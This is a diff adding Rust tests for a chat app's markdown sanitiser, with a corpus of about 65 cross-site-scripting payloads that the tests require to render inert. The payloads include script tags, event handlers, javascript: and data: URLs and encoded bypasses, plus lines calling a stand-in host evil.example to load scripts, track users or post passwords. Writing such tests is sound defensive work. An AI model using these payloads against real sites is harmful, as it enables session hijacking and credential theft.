@@ -1,0 +1,223 @@
+//! What the renderer keeps, and a corpus of hostile inputs that must all
+//! come out inert.
+
+use super::*;
+
+/// Why a rendered fragment is not inert, if it is not: an active tag, an
+/// event handler or style, or a URL other than http(s), mailto, this
+/// server's paths and, for images, its uploads.
+fn is_inert(html: &str) -> Result<(), String> {
+    // Text never holds a raw `<` (it is escaped), so each one opens a tag.
+    for tag in html.split('<').skip(1) {
+        let tag = tag
+            .split('>')
+            .next()
+            .unwrap_or_default()
+            .to_ascii_lowercase();
+        let name: String = tag
+            .trim_start_matches('/')
+            .chars()
+            .take_while(char::is_ascii_alphanumeric)
+            .collect();
+        if [
+            "script", "style", "svg", "math", "iframe", "object", "embed", "form", "link", "meta",
+            "base", "frame", "frameset", "textarea", "button", "select", "template", "video",
+            "audio", "source",
+        ]
+        .contains(&name.as_str())
+        {
+            return Err(format!("a <{name}> tag"));
+        }
+        for (attribute, value) in attributes(&tag[tag.find(&name).unwrap_or(0) + name.len()..]) {
+            if attribute.starts_with("on")
+                || ["style", "srcdoc", "formaction", "xlink:href", "srcset"]
+                    .contains(&attribute.as_str())
+            {
+                return Err(format!("an `{attribute}` attribute"));
+            }
+            let value = value.replace("&amp;", "&");
+            if attribute == "href" && !href_is_safe(&value) {
+                return Err(format!("href={value:?}"));
+            }
+            if attribute == "src" && !is_upload(&value) {
+                return Err(format!("src={value:?}"));
+            }
+        }
+    }
+    Ok(())
+}
+
+/// A tag's attributes, as the serialiser writes them: `name` or
+/// `name="value"` (a `"` in a value is written `&quot;`).
+fn attributes(mut rest: &str) -> Vec<(String, String)> {
+    let mut found = Vec::new();
+    loop {
+        rest = rest.trim_start_matches(|c: char| c.is_whitespace() || c == '/');
+        if rest.is_empty() {
+            return found;
+        }
+        let name_end = rest
+            .find(|c: char| c == '=' || c.is_whitespace() || c == '/')
+            .unwrap_or(rest.len());
+        let name = rest[..name_end].to_owned();
+        rest = &rest[name_end..];
+        let mut value = String::new();
+        if let Some(after) = rest.strip_prefix("=\"") {
+            let end = after.find('"').unwrap_or(after.len());
+            value = after[..end].to_owned();
+            rest = after.get(end + 1..).unwrap_or_default();
+        }
+        found.push((name, value));
+    }
+}
+
+fn href_is_safe(url: &str) -> bool {
+    let lower = url.to_ascii_lowercase();
+    let scheme_part = lower.split(['/', '?', '#']).next().unwrap_or_default();
+    lower.starts_with("http://")
+        || lower.starts_with("https://")
+        || lower.starts_with("mailto:")
+        || (!lower.starts_with("//") && !scheme_part.contains(':') && !lower.contains('\\'))
+}
+
+const HOSTILE: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<style>body{display:none}</style>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<iframe src=\"javascript:alert(1)\"></iframe>",
+    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
+    "<embed src=\"javascript:alert(1)\">",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
+    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
+    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
+    "[x](javascript:alert(1))",
+    "[x](JAVASCRIPT:alert(1))",
+    "[x](javascript&#58;alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x]( javascript:alert(1) )",
+    "[x](<javascript:alert(1)>)",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](file:///etc/passwd)",
+    "[x](//evil.example/phish)",
+    "[x](\\\\evil.example\\share)",
+    "![x](javascript:alert(1))",
+    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+    "![x](https://evil.example/track.png)",
+    "![x](//evil.example/track.png)",
+    "![x](/media/uploads/../avatars/x.png)",
+    "![x](/media/uploads/a.png\" onerror=\"alert(1))",
+    "[x][ref]\n\n[ref]: javascript:alert(1)",
+    "![x][ref]\n\n[ref]: https://evil.example/a.png",
+    "[x][ref]\n\n[ref]: data:text/html,<script>alert(1)</script> \"title\"",
+    "<javascript:alert(1)>",
+    "<https://example.org/\" onmouseover=\"alert(1)>",
+    "[x](https://example.org \"\\\" onmouseover=\\\"alert(1)\")",
+    "<a href=\"https://example.org\" onclick=\"alert(1)\">x</a>",
+    "<p style=\"background:url(javascript:alert(1))\">x</p>",
+    "<div style=\"position:fixed;inset:0\">overlay</div>",
+    "<form action=\"https://evil.example\"><input type=password></form>",
+    "<button formaction=\"javascript:alert(1)\">x</button>",
+    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
+    "<base href=\"https://evil.example/\">",
+    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
+    "<!-- <script>alert(1)</script> -->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<scr<script>ipt>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<textarea><script>alert(1)</script></textarea>",
+    "```\n</code><script>alert(1)</script>\n```",
+    "`<img src=x onerror=alert(1)>`",
+    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
+    "- [ ] <script>alert(1)</script>",
+    "**<img src=x onerror=alert(1)>**",
+    "[<img src=x onerror=alert(1)>](https://example.org)",
+    "<a href=\"https://example.org\" target=\"_self\">x</a>",
+    "<img srcset=\"x 1x\" src=\"/media/uploads/a.png\">",
+];
+
+#[test]
+fn every_hostile_input_comes_out_inert() {
+    assert!(HOSTILE.len() >= 50);
+    for input in HOSTILE {
+        let html = render(input);
+        if let Err(why) = is_inert(&html) {
+            panic!("{input:?} rendered {html:?}: {why}");
+        }
+    }
+}
+
+#[test]
+fn the_checker_itself_catches_what_it_looks_for() {
+    for active in [
+        "<script>x</script>",
+        "<a href=\"javascript:x\">x</a>",
+        "<img src=\"https://evil.example/a.png\">",
+        "<p onclick=\"x\">x</p>",
+        "<a href=\"//evil.example\">x</a>",
+    ] {
+        assert!(is_inert(active).is_err(), "{active}");
+    }
+}
+
+#[test]
+fn ordinary_markdown_survives() {
+    let html = render(
+        "# Заголовок\n\n**Жирный** и _курсив_, `код`, ~~зачёркнуто~~.\n\n- один\n- два\n\n> цитата",
+    );
+    for part in [
+        "<h1>Заголовок</h1>",
+        "<strong>Жирный</strong>",
+        "<em>курсив</em>",
+        "<code>код</code>",
+        "<del>зачёркнуто</del>",
+        "<li>один</li>",
+        "<blockquote>",
+    ] {
+        assert!(html.contains(part), "{part} in {html}");
+    }
+}
+
+#[test]
+fn links_are_kept_with_rel_nofollow() {
+    let html = render("[NoxChat](https://example.org/a?b=1&c=2) and <mailto:anna@example.org>");
+    assert!(
+        html.contains("<a href=\"https://example.org/a?b=1&amp;c=2\" rel=\"nofollow ugc noopener\">NoxChat</a>"),
+        "{html}"
+    );
+    assert!(html.contains("href=\"mailto:anna@example.org\""), "{html}");
+}
+
+#[test]
+fn uploaded_images_show_and_others_become_links() {
+    let own = render("![кот](/media/uploads/0193f4d2-1600.jpg)");
+    assert!(
+        own.contains("<img src=\"/media/uploads/0193f4d2-1600.jpg\" alt=\"кот\">"),
+        "{own}"
+    );
+    let outside = render("![кот](https://example.org/cat.jpg)");
+    assert!(!outside.contains("<img"), "{outside}");
+    assert!(
+        outside.contains(
+            "<a href=\"https://example.org/cat.jpg\" rel=\"nofollow ugc noopener\">кот</a>"
+        ),
+        "{outside}"
+    );
+}
+
+#[test]
+fn raw_html_is_shown_as_text() {
+    let html = render("a <b>bold</b> claim");
+    assert!(html.contains("a &lt;b&gt;bold&lt;/b&gt; claim"), "{html}");
+}
